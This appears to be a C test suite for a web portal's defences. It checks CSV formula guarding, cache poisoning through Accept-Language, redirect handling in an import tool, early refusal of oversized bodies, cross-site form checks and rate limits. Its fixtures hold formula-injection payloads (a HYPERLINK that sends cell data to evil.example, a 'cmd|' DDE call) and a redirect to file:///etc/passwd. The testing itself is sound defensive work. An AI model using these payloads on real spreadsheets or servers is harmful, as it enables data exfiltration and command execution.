/* The hostile user at the portal's edges (issue 16), replayed end to end
 * through nginx: the page cache poisoned through Accept-Language and the
 * other headers a page depends on, CSV cells a spreadsheet would run,
 * sporctl import led by redirects where it must not go, bodies sent by
 * visitors who may not send them (refused before they are read), forms from
 * other sites, and the per-client limit on the costly public pages. */
#include "config.h"

#include <arpa/inet.h>
#include <jansson.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "../tap.h"
#include "client.h"
#include "dbtest.h"
#include "core/file.h"
#include "users.h"

static MYSQL *owner;
static char run[USER_RUN_SIZE], tmp[64], output[65536];

/* Run the test build's sporctl with configuration `conf` and `args`; its
 * exit status, what it said in `output`. */
static int sporctl(const char *conf, const char *args)
{
	char cmd[20000];
	snprintf(cmd, sizeof cmd, "'%s/cgi/sporctl' -c '%s' %s 2>&1", getenv("SPOR_TEST_BUILD"), conf, args);
	FILE *p = popen(cmd, "r");
	size_t n = p ? fread(output, 1, sizeof output - 1, p) : 0;
	output[n] = '\0';
	int status = p ? pclose(p) : -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static bool write_file(const char *path, const char *text, size_t len)
{
	FILE *f = fopen(path, "wb");
	bool done = f && fwrite(text, 1, len, f) == len;
	return f && fclose(f) == 0 && done;
}

static const char *path_in_tmp(const char *name)
{
	static char paths[4][256];
	static int next;
	char *p = paths[next++ % 4];
	snprintf(p, 256, "%s/%s", tmp, name);
	return p;
}

/* --- CSV cells a spreadsheet would run ---------------------------------- */

/* Cells of a CSV text whose first character makes a spreadsheet read a
 * formula (=, +, -, @, a tab or a carriage return). */
static int formula_cells(const char *s)
{
	int n = 0;
	bool start = true, quoted = false;
	for (; *s; s++) {
		if (start) {
			start = false;
			if (*s == '"') {
				quoted = true;
				n += s[1] && strchr("=+-@\t\r", s[1]) != NULL;
				continue;
			}
			n += strchr("=+-@\t", *s) != NULL;
		}
		if (quoted) {
			if (*s == '"' && s[1] == '"')
				s++;
			else if (*s == '"')
				quoted = false;
		} else if (*s == ',' || *s == '\n') {
			start = true;
		}
	}
	return n;
}

/* GET `path` into a file of tmp; the answer's body (free() it). */
static char *download(const char *path, const char *name, long *status)
{
	struct resp r;
	request("GET", path, NULL, 0, NULL, &r);
	*status = r.status;
	write_file(path_in_tmp(name), r.body, r.body_len);
	char *body = strdup(r.body);
	resp_free(&r);
	return body;
}

static const char *term_text(json_t *terms, size_t i, const char *kind)
{
	json_t *t = json_object_get(json_object_get(json_array_get(terms, i), "texts"), "en");
	return json_string_value(json_object_get(json_object_get(t, kind), "value"));
}

static const char *term_field(json_t *terms, size_t i, const char *key)
{
	return json_string_value(json_object_get(json_array_get(terms, i), key));
}

static bool same(const char *got, const char *want)
{
	if (got && strcmp(got, want) == 0)
		return true;
	diag("got \"%s\", want \"%s\"", got ? got : "(null)", want);
	return false;
}

/* `sporctl import WHAT` of the export saved as `name` says `expect`. */
static void reimport(const char *what, const char *name, const char *expect, const char *label)
{
	char args[1024];
	snprintf(args, sizeof args, "import %s '%s'", what, path_in_tmp(name));
	if (!ok(sporctl(getenv("SPOR_CONFIG"), args) == 0 && strstr(output, expect), "%s", label))
		diag("%s", output);
}

static void test_rms_csv(void)
{
	/* A foreign file: what it holds is stored as it is ("''=" is the
	 * guarded form of "'=", and "'=already" of "=already"). */
	static const char csv[] =
		"List ID,Term ID,Language,Term Name,Short Name,Other Name,Term Description,Term Status,Term Comments,"
		"User Defined Tags\r\n"
		"900000000816,900000000817,en,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\",-5,"
		"@SUM(A1:A9),\"\ttab first\",CURRENT,''=,+33 1 00\r\n"
		"900000000816,900000000818,en,'=already guarded,-,plain,\"\rCR first\",CURRENT,'plain,'\r\n";
	char args[1024];
	snprintf(args, sizeof args, "import rms --list-name 'Formulas' '%s'", path_in_tmp("formulas.csv"));
	ok(write_file(path_in_tmp("formulas.csv"), csv, sizeof csv - 1) && sporctl(getenv("SPOR_CONFIG"), args) == 0,
	   "a list whose texts look like formulas imports");

	long status;
	char *json = download("/rms/lists/900000000816/export.json", "formulas.json", &status);
	json_t *doc = json_loads(json, 0, NULL), *terms = json_object_get(doc, "terms");
	ok(status == 200 && json_array_size(terms) == 2 &&
		   same(term_text(terms, 0, "name"), "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")") &&
		   same(term_text(terms, 0, "short"), "-5") && same(term_text(terms, 0, "other"), "@SUM(A1:A9)") &&
		   same(term_text(terms, 0, "description"), "\ttab first") && same(term_field(terms, 0, "comments"), "'=") &&
		   same(term_field(terms, 0, "tags"), "+33 1 00") && same(term_text(terms, 1, "name"), "=already guarded") &&
		   same(term_text(terms, 1, "short"), "-") && same(term_text(terms, 1, "description"), "\rCR first") &&
		   same(term_field(terms, 1, "comments"), "'plain") && same(term_field(terms, 1, "tags"), "'"),
	   "the values are stored as the file holds them, guards removed (the JSON export holds them unaltered)");
	json_decref(doc);
	free(json);

	char *out = download("/rms/lists/900000000816/export.csv", "formulas-export.csv", &status);
	int formulas = formula_cells(out);
	ok(status == 200 && formulas == 0, "the CSV export has no cell a spreadsheet would run (%d)", formulas);
	ok(strstr(out, "\"'=HYPERLINK(\"\"https") && strstr(out, ",\"'-5\",") && strstr(out, ",\"'@SUM(A1:A9)\",") &&
		   strstr(out, ",\"'\ttab first\",") && strstr(out, ",\"''=\",") && strstr(out, ",\"'+33 1 00\"") &&
		   strstr(out, ",\"'=already guarded\",") && strstr(out, ",\"'-\",") && strstr(out, ",\"'\rCR first\",") &&
		   strstr(out, ",\"'plain\","),
	   "each such cell starts with ', and a value already starting with ' before a formula gets one more");
	free(out);
	reimport("rms --list-name 'Formulas'", "formulas-export.csv", "0 new, 0 changed, 2 unchanged",
		 "the export imports back to the same terms");
}

static void test_oms_csv(void)
{
	static const char csv[] =
		"Organisation ID,Organisation Name,Organisation Acronym,Organisation Status,Location ID,Address Line 1,"
		"City,Country Code,Location Status,Phone,Latitude,Longitude\r\n"
		"ORG-100000816,\"=cmd|' /C calc'!A0\",@ACR,ACTIVE,LOC-100081601,-1 Negative Street,+City,FR,ACTIVE,"
		"+33 1 00 00 00 00,-21.1151,55.5364\r\n";
	char args[1024];
	snprintf(args, sizeof args, "import oms '%s'", path_in_tmp("formulas-oms.csv"));
	ok(write_file(path_in_tmp("formulas-oms.csv"), csv, sizeof csv - 1) &&
		   sporctl(getenv("SPOR_CONFIG"), args) == 0 &&
		   strcmp(dbtest_value(owner, "SELECT name FROM oms_organisations WHERE id = 100000816"),
			  "=cmd|' /C calc'!A0") == 0,
	   "an organisation whose fields look like formulas imports");
	long status;
	char *out = download("/oms/export.csv?q=calc", "formulas-oms-export.csv", &status);
	int formulas = formula_cells(out);
	ok(status == 200 && formulas == 0 && strstr(out, "\"'=cmd|' /C calc'!A0\"") && strstr(out, "\"'@ACR\"") &&
		   strstr(out, "\"'-1 Negative Street\"") && strstr(out, "\"'+City\"") &&
		   strstr(out, "\"'+33 1 00 00 00 00\"") && strstr(out, "'-21.1151"),
	   "the OMS CSV export guards them too (%d unguarded)", formulas);
	free(out);
	reimport("oms", "formulas-oms-export.csv", "0 new, 0 changed, 1 unchanged", "and it imports back unchanged");
}

/* --- the page cache and the headers a page depends on --------------------- */

/* The interface language an answer is in (<html lang="...">), or "?". */
static const char *lang_of(const struct resp *r, char out[8])
{
	const char *at = r->body ? strstr(r->body, "<html lang=\"") : NULL;
	snprintf(out, 8, "%.*s", at ? (int)strcspn(at + 12, "\"") : 1, at ? at + 12 : "?");
	return out;
}

/* The language of the answer to GET `path` with `headers`, into lang. */
static void lang_for(const char *path, const char *const *headers, char lang[8])
{
	struct resp r;
	request("GET", path, NULL, 0, headers, &r);
	lang_of(&r, lang);
	resp_free(&r);
}

/* Every value of header `name` in the answer to GET `path` (free() it). */
static char *answer_header(const char *path, const char *const *headers, const char *name)
{
	struct resp r;
	request("GET", path, NULL, 0, headers, &r);
	char *v = header_all(&r, name);
	resp_free(&r);
	return v;
}

/* Whether a list of header values ("Accept, Cookie") names `token`. */
static bool has_token(const char *list, const char *token)
{
	size_t n = strlen(token);
	for (const char *p = list; p && *p; p += strspn(p, ", ")) {
		size_t len = strcspn(p, ",");
		if (len == n && strncasecmp(p, token, n) == 0)
			return true;
		p += len;
	}
	return false;
}

static char huge_header[6000];

/* Accept-Language as visitors and attackers send it, one set per line. */
static const char *const visitors[][3] = {
	{NULL},
	{"Accept-Language;"}, /* sent, empty */
	{"Accept-Language: nl-NL, de;q=0.9"},
	{"Accept-Language: de"},
	{"Accept-Language: fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7"},
	{"Accept-Language: en-US,en;q=0.9"},
	{"Accept-Language: fr, de;q=2"},
	{"Accept-Language: de;q=2, fr;q=0.5"},
	{"Accept-Language: de;q=0, fr;q=0"},
	{"Accept-Language: de;q=1e3, fr;q=0.5"},
	{"Accept-Language: *"},
	{"Accept-Language: *;q=1, fr;q=0.5"},
	{"Accept-Language: DE-de"},
	{"Accept-Language: fR;Q=0.5, De;q=0.4"},
	{"Accept-Language: ;;;,,=garbage==;q=,"},
	{"Accept-Language: de\t, fr"},
	{"Accept-Language: nl", "Accept-Language: de"},
	{"Accept-Language: de", "Accept-Language: fr"},
	{huge_header},
};
enum { VISITORS = sizeof visitors / sizeof visitors[0] };

static void test_language_cache(void)
{
	/* A header too long to be a key: weights nobody reads, then German. */
	size_t n = (size_t)snprintf(huge_header, sizeof huge_header, "Accept-Language: ");
	while (n < sizeof huge_header - 40)
		n += (size_t)snprintf(huge_header + n, sizeof huge_header - n, "xx-yy;q=0.1, ");
	snprintf(huge_header + n, sizeof huge_header - n, "de;q=0.9");

	/* What the program chooses for each, on a page nobody asked for yet. */
	char truth[VISITORS][8], path[128], lang[8];
	for (size_t i = 0; i < VISITORS; i++) {
		snprintf(path, sizeof path, "/rms/lists?edges-truth=%s-%zu", run, i);
		lang_for(path, visitors[i], truth[i]);
	}
	ok(strcmp(truth[2], "de") == 0 && strcmp(truth[0], "en") == 0 && strcmp(truth[6], "fr") == 0 &&
		   strcmp(truth[7], "fr") == 0 && strcmp(truth[8], "en") == 0,
	   "the best weighted language wins; a weight above 1 is no weight; q=0 refuses");

	/* Whoever fills the cache, everyone gets the language chosen for them. */
	int wrong = 0;
	for (size_t p = 0; p < VISITORS; p++) {
		snprintf(path, sizeof path, "/rms/lists?edges-poison=%s-%zu", run, p);
		lang_for(path, visitors[p], lang);
		for (size_t i = 0; i < VISITORS; i++) {
			lang_for(path, visitors[i], lang);
			if (strcmp(lang, truth[i]) != 0 && wrong++ < 5)
				diag("after visitor %zu filled it, visitor %zu got %s instead of %s", p, i, lang, truth[i]);
		}
	}
	ok(wrong == 0, "no Accept-Language puts its language in front of another's (%d of %d answers wrong)", wrong,
	   VISITORS * VISITORS);

	/* The key is the language, not the raw header: one copy for the many
	 * ways browsers ask for it, and nginx ignores the answer's Vary. */
	snprintf(path, sizeof path, "/rms/lists?edges-shared=%s", run);
	const char *const en_us[] = {"Accept-Language: en-US,en;q=0.9", NULL}, *const en[] = {"Accept-Language: en", NULL},
			  *const en_gb[] = {"Accept-Language: EN-GB, fr;q=0.5", NULL};
	const char *const *const english[] = {en_us, en, en_gb, NULL};
	char *cached[4];
	bool shared = true;
	for (size_t i = 0; i < 4; i++) {
		cached[i] = answer_header(path, english[i], "X-Cache");
		shared &= i == 0 || (cached[i] && strcmp(cached[i], "HIT") == 0);
	}
	ok(shared, "browsers asking for English in different words share one cached page (%s %s %s %s)",
	   cached[0] ? cached[0] : "-", cached[1] ? cached[1] : "-", cached[2] ? cached[2] : "-",
	   cached[3] ? cached[3] : "-");
	for (size_t i = 0; i < 4; i++)
		free(cached[i]);
	const char *const huge[] = {huge_header, NULL};
	char *c = answer_header(path, huge, "X-Cache");
	ok(c && strcmp(c, "BYPASS") == 0, "a header too long for a key is answered without the cache (%s)", c ? c : "-");
	free(c);

	/* The answers say what they vary on. */
	char *vary = answer_header("/rms/lists?edges-vary=1", NULL, "Vary");
	ok(has_token(vary, "Accept-Language") && has_token(vary, "Cookie"),
	   "an anonymous page chosen by Accept-Language says Vary: Accept-Language, Cookie (%s)", vary ? vary : "none");
	free(vary);
	vary = answer_header("/rms/lists?lang=fr", NULL, "Vary");
	ok(!has_token(vary, "Accept-Language") && has_token(vary, "Cookie"),
	   "with ?lang=fr it does not vary on Accept-Language (%s)", vary ? vary : "none");
	free(vary);

	/* The API varies on Accept (JSON or FHIR), in the key too. */
	snprintf(path, sizeof path, "/api/v1/organisations/ORG-100000816?edges=%s", run);
	const char *const fhir[] = {"Accept: application/fhir+json", NULL}, *const any[] = {"Accept: */*", NULL};
	char *t1 = answer_header(path, fhir, "Content-Type"), *t2 = answer_header(path, NULL, "Content-Type"),
	     *t3 = answer_header(path, any, "Content-Type");
	c = answer_header(path, any, "X-Cache");
	vary = answer_header(path, any, "Vary");
	ok(t1 && t2 && t3 && strstr(t1, "fhir") && !strstr(t2, "fhir") && !strstr(t3, "fhir") && c &&
		   strcmp(c, "HIT") == 0 && has_token(vary, "Accept") && !has_token(vary, "Accept-Language"),
	   "the API's FHIR answer is never served to a JSON client, and JSON is shared (%s, %s, %s %s)", t1 ? t1 : "-",
	   t2 ? t2 : "-", t3 ? t3 : "-", c ? c : "-");
	free(t1);
	free(t2);
	free(t3);
	free(c);
	free(vary);
}

/* --- sporctl import and redirects ----------------------------------------- */

static const char fetched_csv[] = "List ID,Term ID,Language,Term Name,Term Status\r\n"
				  "900000000826,900000000827,en,Fetched term,CURRENT\r\n";

/* A plain http server in a child: /data.csv (each fetch counted in the file
 * `hits`), /to-data (a relative redirect to it), /to-ftp, /to-file; any
 * other path 404.  Its port in *port; kill the child to stop it. */
static pid_t http_server(int *port, const char *hits)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof a;
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 16) != 0 ||
	    getsockname(s, (struct sockaddr *)&a, &len) != 0)
		return -1;
	*port = ntohs(a.sin_port);
	fflush(stdout);
	pid_t pid = fork();
	if (pid != 0) {
		close(s);
		return pid;
	}
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		char req[4096], where[256] = "", answer[1024];
		ssize_t n = read(c, req, sizeof req - 1);
		req[n > 0 ? n : 0] = '\0';
		sscanf(req, "GET %200s", where);
		const char *to = strcmp(where, "/to-data") == 0 ? "/data.csv"
				 : strcmp(where, "/to-ftp") == 0 ? "ftp://127.0.0.1/data.csv"
				 : strcmp(where, "/to-file") == 0 ? "file:///etc/passwd"
								   : NULL;
		if (strcmp(where, "/data.csv") == 0) {
			FILE *f = fopen(hits, "a");
			if (f) {
				fputc('x', f);
				fclose(f);
			}
			snprintf(answer, sizeof answer, "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
				 sizeof fetched_csv - 1, fetched_csv);
		} else if (to) {
			snprintf(answer, sizeof answer,
				 "HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", to);
		} else {
			snprintf(answer, sizeof answer, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
		}
		if (write(c, answer, strlen(answer)) < 0)
			(void)0;
		close(c);
	}
}

static int free_port(void)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof a;
	int port = s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) == 0 && getsockname(s, (struct sockaddr *)&a, &len) == 0
			   ? ntohs(a.sin_port)
			   : -1;
	close(s);
	return port;
}

static bool accepts(int port)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	bool up = s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0;
	close(s);
	return up;
}

/* An https server with a certificate of its own (openssl s_server, serving
 * the answers in the files of `dir`). */
static pid_t https_server(int port, const char *dir)
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		char accept[32];
		snprintf(accept, sizeof accept, "127.0.0.1:%d", port);
		if (chdir(dir) != 0 || !freopen("/dev/null", "w", stdout) || !freopen("/dev/null", "w", stderr))
			_exit(1);
		execlp("openssl", "openssl", "s_server", "-quiet", "-accept", accept, "-cert", "cert.pem", "-key",
		       "key.pem", "-HTTP", (char *)NULL);
		_exit(127);
	}
	for (int i = 0; i < 100 && !accepts(port); i++)
		usleep(50000);
	return pid;
}

static int fetches(const char *hits)
{
	size_t len = 0;
	char *s = file_read(hits, &len);
	free(s);
	return (int)len;
}

static void test_redirects(void)
{
	char cmd[2048], dir[128], hits[192], conf[192], url[256], answer[512];
	snprintf(dir, sizeof dir, "%s/https", tmp);
	snprintf(hits, sizeof hits, "%s/hits", tmp);
	snprintf(conf, sizeof conf, "%s/spor.conf", tmp);
	snprintf(cmd, sizeof cmd,
		 "mkdir -p '%s' && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 "
		 "-subj /CN=127.0.0.1 -addext subjectAltName=IP:127.0.0.1 -keyout '%s/key.pem' -out '%s/cert.pem' "
		 ">/dev/null 2>&1",
		 dir, dir, dir);
	int hport = 0, sport = free_port();
	pid_t http = http_server(&hport, hits);
	if (!ok(system(cmd) == 0 && http > 0 && sport > 0, "an http server and a certificate for an https one"))
		return;
	/* The https server's answers, and a configuration that trusts it. */
	snprintf(answer, sizeof answer, "HTTP/1.0 302 Found\r\nLocation: http://127.0.0.1:%d/data.csv\r\n\r\n", hport);
	snprintf(url, sizeof url, "%s/to-http", dir);
	write_file(url, answer, strlen(answer));
	snprintf(answer, sizeof answer, "HTTP/1.0 302 Found\r\nLocation: https://127.0.0.1:%d/data.csv\r\n\r\n", sport);
	snprintf(url, sizeof url, "%s/to-https", dir);
	write_file(url, answer, strlen(answer));
	snprintf(answer, sizeof answer, "HTTP/1.0 200 OK\r\nContent-Type: text/csv\r\n\r\n%s", fetched_csv);
	snprintf(url, sizeof url, "%s/data.csv", dir);
	write_file(url, answer, strlen(answer));
	size_t len = 0;
	char *base = file_read(getenv("SPOR_CONFIG"), &len);
	snprintf(cmd, sizeof cmd, "%s\nimport.ca_file = %s/cert.pem\n", base ? base : "", dir);
	free(base);
	write_file(conf, cmd, strlen(cmd));
	pid_t https = https_server(sport, dir);

	snprintf(cmd, sizeof cmd, "import rms --list-name 'Fetched' https://127.0.0.1:%d/to-https", sport);
	int rc = sporctl(conf, cmd);
	ok(rc == 0 && strcmp(dbtest_value(owner, "SELECT COUNT(*) FROM rms_terms WHERE list_id = 900000000826"), "1") == 0,
	   "https redirected to https: fetched, with the certificates of import.ca_file");
	if (rc != 0)
		diag("%s", output);
	ok(sporctl(getenv("SPOR_CONFIG"), cmd) == 1 && strstr(output, "certificate"),
	   "without them the server's own certificate is refused");

	snprintf(cmd, sizeof cmd, "import rms --list-name 'Fetched' https://127.0.0.1:%d/to-http", sport);
	rc = sporctl(conf, cmd);
	ok(rc == 1 && strstr(output, "from https to http") && fetches(hits) == 0,
	   "https redirected to plain http: refused, and nothing is fetched over http (%d fetches)", fetches(hits));
	if (rc != 1)
		diag("%s", output);

	static const char *const refused[] = {"/to-ftp", "/to-file"};
	for (size_t i = 0; i < 2; i++) {
		snprintf(cmd, sizeof cmd, "import rms --list-name 'Fetched' http://127.0.0.1:%d%s", hport, refused[i]);
		ok(sporctl(conf, cmd) == 1 && fetches(hits) == 0, "http redirected %s: refused", refused[i] + 1);
	}
	snprintf(cmd, sizeof cmd, "import rms --list-name 'Fetched' file://%s/data.csv", dir);
	ok(sporctl(conf, cmd) == 1 && strstr(output, "only http and https"), "a file:// URL: refused");
	snprintf(cmd, sizeof cmd, "import rms --list-name 'Fetched' ftp://127.0.0.1:%d/data.csv", hport);
	ok(sporctl(conf, cmd) == 1 && strstr(output, "only http and https"), "an ftp:// URL: refused");
	snprintf(cmd, sizeof cmd, "import rms --list-name 'Fetched' http://127.0.0.1:%d/to-data", hport);
	ok(sporctl(conf, cmd) == 0 && fetches(hits) == 1, "http redirected to http (a relative Location): fetched");

	kill(https, SIGKILL);
	kill(http, SIGKILL);
	waitpid(https, NULL, 0);
	waitpid(http, NULL, 0);
}

/* --- bodies refused before they are read ----------------------------------- */

/* Send a request's line and headers, announcing a body of `length` bytes
 * but sending none of it, and read the status the portal answers within
 * 5 s: 0 when it waits for the body instead. */
static long answer_before_body(const char *target, const char *type, long length, const char *extra)
{
	const char *base = client_base(), *colon = strrchr(base, ':');
	int port = colon ? atoi(colon + 1) : 0;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
		close(s);
		return -1;
	}
	char head[2048];
	int n = snprintf(head, sizeof head,
			 "POST %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: %s\r\nContent-Length: %ld\r\n%s\r\n",
			 target, port, type, length, extra ? extra : "");
	long status = 0;
	struct pollfd p = {s, POLLIN, 0};
	char got[64] = "";
	if (write(s, head, (size_t)n) == n && poll(&p, 1, 5000) == 1 && read(s, got, sizeof got - 1) > 0)
		sscanf(got, "HTTP/1.1 %ld", &status);
	close(s);
	return status;
}

static const char multipart[] = "multipart/form-data; boundary=edges";
static const char form[] = "application/x-www-form-urlencoded";

static void test_bodies(struct user *u)
{
	char cookie[160], lock[64];
	snprintf(cookie, sizeof cookie, "Cookie: spor_session=%s\r\n", u->v.session);
	snprintf(lock, sizeof lock, "/admin/users/%s/lock", u->id);
	static const char *const uploads[] = {"/account/roles", "/oms/requests/new", "/rms/requests/new",
					      "/rms/lists/900000000816/requests/new", "/account/requests/1"};
	for (size_t i = 0; i < sizeof uploads / sizeof uploads[0]; i++) {
		long st = answer_before_body(uploads[i], multipart, 8000000, NULL);
		ok(st == 403, "an anonymous 8 MB upload to %s: 403 before its body is read (%ld)", uploads[i], st);
	}
	long st = answer_before_body("/register", form, 5000000, NULL);
	ok(st == 413, "an anonymous 5 MB form to /register: 413 before it is read (%ld)", st);
	st = answer_before_body("/login", form, 60000, NULL);
	ok(st == 413, "an anonymous form above the anonymous cap: 413 (%ld)", st);
	st = answer_before_body(lock, form, 60000, NULL);
	ok(st == 403, "an anonymous form to the console: 403 before it is read (%ld)", st);
	st = answer_before_body(lock, form, 60000, cookie);
	ok(st == 403, "a user's form to a console route their roles do not open: 403 before it is read (%ld)", st);
	char extra[300];
	snprintf(extra, sizeof extra, "%sOrigin: https://evil.example\r\n", cookie);
	st = answer_before_body("/account/roles", multipart, 8000000, extra);
	ok(st == 403, "a signed-in user's upload from another site (Origin): 403 before it is read (%ld)", st);
	snprintf(extra, sizeof extra, "%sSec-Fetch-Site: cross-site\r\n", cookie);
	st = answer_before_body("/account/preferences", form, 60000, extra);
	ok(st == 403, "and by Sec-Fetch-Site: 403 before it is read (%ld)", st);
}

/* --- forms from other sites ---------------------------------------------- */

static long favourites(struct user *u)
{
	return atol(dbtest_valuef(owner, "SELECT COUNT(*) FROM favourites WHERE account_id = %s", u->id));
}

static void test_cross_site(struct user *u)
{
	char own[160];
	snprintf(own, sizeof own, "Origin: %s", client_base());
	static const char *const foreign[] = {"Origin: https://evil.example", "Origin: null",
					      "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-site"};
	struct resp r;
	visitor_get(&u->v, "/account", &r);
	resp_free(&r);
	for (size_t i = 0; i < sizeof foreign / sizeof foreign[0]; i++) {
		u->v.extra = foreign[i];
		long st = visitor_post(&u->v, "/account/favourites", "kind=list&ref=900000000816&action=add&next=/", true, &r);
		ok(st == 403 && favourites(u) == 0 && body_has(&r, "another site"),
		   "a form with its valid token but %s: 403, nothing done", foreign[i]);
		resp_free(&r);
	}
	const char *const same_site[] = {own, "Sec-Fetch-Site: same-origin"};
	for (size_t i = 0; i < 2; i++) {
		u->v.extra = same_site[i];
		ok(visitor_post(&u->v, "/account/favourites", "kind=list&ref=900000000816&action=add&next=/", true, &r) ==
				   303 &&
			   favourites(u) == 1,
		   "from the portal's own pages (%s): done", same_site[i]);
		resp_free(&r);
	}
	u->v.extra = NULL;

	struct visitor anon = {.extra = NULL};
	visitor_get(&anon, "/login", &r);
	resp_free(&r);
	anon.extra = "Origin: https://evil.example";
	char fields[300];
	snprintf(fields, sizeof fields, "email=%s&password=wrong+password+here", u->email);
	ok(visitor_post(&anon, "/login", fields, true, &r) == 403 && body_has(&r, "another site"),
	   "an anonymous sign-in form from another site: 403");
	resp_free(&r);
}

/* --- the per-client limit on costly public pages ----------------------------- */

static void test_rate_limit(void)
{
	char path[128];
	snprintf(path, sizeof path, "/rms/search?q=edges%s", run);
	/* From an address of its own, so the other tests' allowance is untouched. */
	client_source = "127.0.0.2";
	int sent = 0;
	struct resp r = {0};
	for (; sent < 3000; sent++) {
		request("GET", path, NULL, 0, NULL, &r);
		if (r.status == 429)
			break;
		resp_free(&r);
	}
	char *retry = header(&r, "Retry-After"), *type = header(&r, "Content-Type"), lang[8];
	ok(r.status == 429 && retry && atoi(retry) >= 1 && type && strstr(type, "text/html") &&
		   strcmp(lang_of(&r, lang), "en") == 0 && body_has(&r, "Too many"),
	   "a burst of searches from one address: 429 with Retry-After %s, in the portal's layout (after %d)",
	   retry ? retry : "none", sent);
	free(retry);
	free(type);
	resp_free(&r);
	static const char *const exports[] = {"/rms/lists/900000000816/export.csv",
					      "/rms/lists/900000000816/export.xlsx", "/oms/export.xlsx"};
	for (size_t k = 0; k < sizeof exports / sizeof exports[0]; k++) {
		long export = 0;
		for (int i = 0; i < 5 && export != 429; i++) { /* one may pass as the allowance refills */
			request("GET", exports[k], NULL, 0, NULL, &r);
			export = r.status;
			resp_free(&r);
		}
		ok(export == 429, "its exports are limited with its searches: %s", exports[k]);
	}
	request("GET", "/rms/lists/900000000816", NULL, 0, NULL, &r);
	ok(r.status == 200, "a list's page without filters is not");
	resp_free(&r);
	client_source = NULL;
	request("GET", path, NULL, 0, NULL, &r);
	ok(r.status == 200, "another address is not limited by that one");
	resp_free(&r);
}

int main(void)
{
	owner = users_start(run);
	snprintf(tmp, sizeof tmp, "/tmp/spor-edges-XXXXXX");
	if (!mkdtemp(tmp))
		skip_all("no temporary folder");
	struct user u;
	ok(user_make(owner, &u, "edna", run, "edges.test"), "a signed-in user");

	test_rms_csv();
	test_oms_csv();
	test_language_cache();
	test_redirects();
	test_bodies(&u);
	test_cross_site(&u);
	test_rate_limit();

	char cmd[128];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", tmp);
	if (system(cmd) != 0)
		diag("could not remove %s", tmp);
	users_done(owner);
	return done_testing();
}
